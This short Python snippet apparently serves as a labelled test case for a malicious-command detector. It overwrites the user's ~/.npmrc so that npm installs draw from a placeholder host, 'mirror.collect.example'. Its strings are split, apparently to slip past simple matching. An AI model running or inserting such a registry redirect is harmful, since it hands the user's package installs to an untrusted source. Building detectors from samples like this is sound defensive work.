import os

with open(os.path.expanduser("~/.npm" + "rc"), "w") as file:
    file.write("registry=" + "https://mirror." + "collect.example/\n") # expect: malicious-command/root-ca-or-proxy
